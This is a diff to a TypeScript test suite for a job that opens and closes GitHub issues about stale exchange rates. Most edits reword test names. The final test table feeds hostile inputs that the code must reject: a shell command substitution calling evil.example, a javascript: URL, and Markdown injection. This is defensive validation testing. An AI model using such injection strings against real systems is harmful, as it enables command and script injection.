@@ -17,21 +17,25 @@ const stale: LongStaleness = {
 const workflow = issueKeeper(keepStaleIssue);
 const { keep } = workflow;
 
-describe('longStaleness (whether rates have been stale for a day)', () => {
+describe('longStaleness (reports rates that have been stale for a day)', () => {
   const { since, ...rest } = stale;
   const snapshot = { ...rest, staleSince: since };
 
   it.each([
     ['null if the rates have been stale for less than a day', '2026-10-01T00:22:59.999Z', null],
-    ['the start of staleness and each mirror’s outcome after a day', '2026-10-01T00:23:00.000Z', stale],
+    [
+      'since when the rates are stale, and what each mirror returned, if the rates have been stale for a day',
+      '2026-10-01T00:23:00.000Z',
+      stale,
+    ],
   ])('returns %s', (_, checkedAt, expected) => {
     expect(longStaleness({ ...snapshot, checkedAt })).toEqual(expected);
     expect(longStaleness({ ...snapshot, checkedAt, staleSince: null })).toBeNull();
   });
 });
 
-describe('keepStaleIssue (issue about rates that have been stale for a day)', () => {
-  it('opens one issue that states the start of staleness and each mirror’s response', async () => {
+describe('keepStaleIssue (opens, edits and closes a GitHub issue about stale rates)', () => {
+  it('opens one issue that says since when the rates are stale and what each mirror returned', async () => {
     for (let times = 0; times < 2; times++) await keep(stale);
     expect(workflow.api.issues).toMatchObject([{ state: 'open', title: 'The rates have been stale for a day' }]);
     const { body = '' } = workflow.api.issues[0] ?? {};
@@ -52,7 +56,7 @@ describe('keepStaleIssue (issue about rates that have been stale for a day)', ()
     expect(workflow.api.issues).toMatchObject([{ state: 'open', comments: [] }]);
   });
 
-  it('closes the issue if a publish has fresh rates', async () => {
+  it('closes the issue if a successful publish has fresh rates', async () => {
     await keep(stale);
     await keep(null, 'failure');
     expect(workflow.api.issues).toMatchObject([{ state: 'open' }]);
@@ -64,7 +68,7 @@ describe('keepStaleIssue (issue about rates that have been stale for a day)', ()
     expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
   });
 
-  it('opens no second issue after a person closes the first issue, until the rates become stale again', async () => {
+  it('opens no new issue after a person closes the issue, unless a new period of stale rates begins', async () => {
     await keep(stale);
     Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
     await keep({ ...stale, mirrors: [] });
@@ -73,7 +77,7 @@ describe('keepStaleIssue (issue about rates that have been stale for a day)', ()
     expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
   });
 
-  it('changes nothing if the publish had no output', async () => {
+  it('changes no issue if the publish job has no output', async () => {
     await keep(stale);
     await keep('');
     await keep('', 'failure');
@@ -84,14 +88,14 @@ describe('keepStaleIssue (issue about rates that have been stale for a day)', ()
   it.each([
     ['isn’t JSON', 'nonsense'],
     ['is a list', '[]'],
-    ['has no fields', '{}'],
-    ['mentions GitHub users in place of a time', JSON.stringify({ ...stale, since: '@everyone' })],
+    ['is an empty object', '{}'],
+    ['has “@everyone” in place of a time', JSON.stringify({ ...stale, since: '@everyone' })],
     ['has a date that doesn’t exist', JSON.stringify({ ...stale, asOf: '2026-09-31' })],
     ['has Markdown in a mirror’s URL', withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' })],
-    ['has a mirror’s URL that runs a script', withMirror({ mirror: 'javascript:alert(1)' })],
-    ['has a shell command in place of a mirror’s outcome', withMirror({ outcome: '$(curl evil.example)' })],
-    ['mentions a GitHub user in place of a mirror’s date', withMirror({ date: '@me' })],
-  ])('throws and changes nothing if the output of the publish %s', async (_, output) => {
+    ['has a javascript: URL as a mirror', withMirror({ mirror: 'javascript:alert(1)' })],
+    ['has a shell command in place of what a mirror returned', withMirror({ outcome: '$(curl evil.example)' })],
+    ['has “@me” in place of a mirror’s date', withMirror({ date: '@me' })],
+  ])('throws an error and opens no issue if the publish job’s output %s', async (_, output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     expect(workflow.api.issues).toEqual([]);
   });
